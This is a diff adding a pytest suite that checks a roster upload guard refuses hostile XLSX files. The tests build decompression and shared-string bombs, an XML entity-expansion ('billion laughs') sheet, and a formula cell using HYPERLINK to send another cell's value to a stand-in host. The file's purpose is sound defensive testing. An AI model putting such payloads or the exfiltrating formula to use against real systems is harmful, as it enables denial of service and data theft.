@@ -1,0 +1,128 @@
+"""Hostile XLSX rosters are refused from the zip stream, before openpyxl reads the workbook."""
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pytest
+from openpyxl import Workbook
+
+from docgen.batch import xlsx as roster_xlsx
+from docgen.limits import xlsx as limits
+
+SHEET = "xl/worksheets/sheet1.xml"
+NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def _roster(rows=(("张三", "男"),)) -> bytes:
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["姓名", "性别"])
+    for row in rows:
+        sheet.append(list(row))
+    buf = io.BytesIO()
+    book.save(buf)
+    return buf.getvalue()
+
+
+def _replace(content: bytes, name: str, data: bytes | str) -> bytes:
+    """Return the XLSX with one member replaced (or added)."""
+    source = zipfile.ZipFile(io.BytesIO(content))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename != name:
+                target.writestr(info, source.read(info))
+        target.writestr(name, data)
+    return out.getvalue()
+
+
+def _sheet(body: str, dimension: str = "A1:B2") -> str:
+    return f'<?xml version="1.0"?><worksheet {NS}><dimension ref="{dimension}"/><sheetData>{body}</sheetData></worksheet>'
+
+
+@pytest.fixture
+def no_openpyxl(monkeypatch):
+    """Fail the test if the workbook reaches openpyxl: the guard must refuse first."""
+    def refuse(*args, **kwargs):
+        raise AssertionError("openpyxl was asked to load a file the guard should have refused")
+    monkeypatch.setattr(roster_xlsx, "load_workbook", refuse)
+
+
+def _refused(content: bytes) -> "limits.Problem":
+    with pytest.raises(limits.Problem) as caught:
+        roster_xlsx.read_roster(content)
+    return caught.value
+
+
+def test_declared_dimension_bomb_is_413(no_openpyxl):
+    bomb = _replace(_roster(), SHEET, _sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>',
+                                             "A1:XFD10000"))
+    assert len(bomb) < 10_000
+    problem = _refused(bomb)
+    assert problem.status == 413 and "A1:XFD10000" in problem.detail
+
+
+def test_cell_far_out_is_413(no_openpyxl):
+    far = _replace(_roster(), SHEET, _sheet('<row r="9000"><c r="XFD9000"><v>1</v></c></row>', "A1"))
+    assert _refused(far).status == 413
+
+
+def test_shared_string_bomb_is_413(no_openpyxl):
+    strings = "<si><t>x</t></si>" * (limits.MAX_SHARED_STRINGS + 1)
+    bomb = _replace(_roster(), "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}>{strings}</sst>')
+    assert len(bomb) < 100_000
+    problem = _refused(bomb)
+    assert problem.status == 413 and "不同文字" in problem.detail
+
+
+def test_one_huge_shared_string_is_413(no_openpyxl):
+    bomb = _replace(_roster(), "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}><si><t>{"甲" * 40_000}</t></si></sst>')
+    assert _refused(bomb).status == 413
+
+
+def test_too_many_rows_is_413_before_the_end(no_openpyxl):
+    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 100_001))
+    big = _replace(_roster(), SHEET, _sheet(rows, "A1"))
+    problem = _refused(big)
+    assert problem.status == 413 and "2000" in problem.detail
+
+
+def test_member_that_inflates_past_the_limit_is_413(no_openpyxl):
+    bomb = _replace(_roster(), "xl/media/padding.bin", b"\0" * (limits.MAX_MEMBER_BYTES + 1))
+    assert len(bomb) < 100_000
+    assert _refused(bomb).status == 413
+
+
+def test_archive_over_the_size_limit_is_413(no_openpyxl):
+    assert _refused(b"PK" + b"\0" * limits.MAX_ARCHIVE_BYTES).status == 413
+
+
+def test_entity_declarations_are_refused(no_openpyxl):
+    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
+              f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
+              '</sheetData></worksheet>')
+    assert _refused(_replace(_roster(), SHEET, laughs)).status == 400
+
+
+def test_formula_cell_is_422_naming_the_cell(no_openpyxl):
+    book = Workbook()
+    book.active.append(["姓名", "备注"])
+    book.active.append(["张三", '=HYPERLINK("http://x.invalid/?"&B2)'])
+    buf = io.BytesIO()
+    book.save(buf)
+    problem = _refused(buf.getvalue())
+    assert problem.status == 422 and problem.errors[0]["pointer"] == "/file/B2"
+    assert "B2" in problem.errors[0]["detail"] and "公式" in problem.errors[0]["detail"]
+
+
+def test_ordinary_roster_passes():
+    data = roster_xlsx.read_roster(_roster([("张三", "男"), ("李四", "女")]))
+    assert [a["name"] for a in data["applicants"]] == ["张三", "李四"]
+
+
+def test_upload_of_a_bomb_answers_problem_json(client):
+    bomb = _replace(_roster(), SHEET, _sheet("", "A1:XFD10000"))
+    resp = client.post("/v1/batches", data={"file": (io.BytesIO(bomb), "花名册.xlsx")}, content_type="multipart/form-data")
+    assert resp.status_code == 413 and resp.mimetype == "application/problem+json"
+    assert "超过" in resp.json["detail"]
